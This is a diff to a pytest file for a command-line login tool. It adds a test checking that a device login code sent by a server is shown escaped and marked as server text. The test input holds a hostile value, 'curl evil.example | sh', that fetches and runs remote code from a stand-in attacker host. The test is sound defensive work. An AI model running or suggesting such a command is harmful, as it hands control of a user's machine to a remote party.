@@ -15,6 +15,7 @@ import pytest
 
 from cli.command_process import TIMEOUT_S, RunCommand, ServerProcess
 from cli.terminal import open_terminal
+from dovetail.cli.logins import print_device_code
 
 HERE = Path(__file__).parent
 
@@ -189,3 +190,10 @@ def test_without_a_browser_and_a_terminal_the_login_does_not_wait(
     said = run("auth", "login", guarded, HOME=str(tmp_path), BROWSER="/bin/false %s")
     assert said.code == 4
     assert "--device" in said.err
+
+
+def test_a_login_code_is_marked_as_text_of_the_server(capsys: pytest.CaptureFixture[str]) -> None:
+    print_device_code("https://a.example/device", "1234 and run this:\ncurl evil.example | sh")
+    heading, *rows = capsys.readouterr().err.splitlines()
+    assert "evil" not in heading
+    assert rows == ["  │ https://a.example/device", "  │ 1234 and run this:\\ncurl evil.example | sh"]
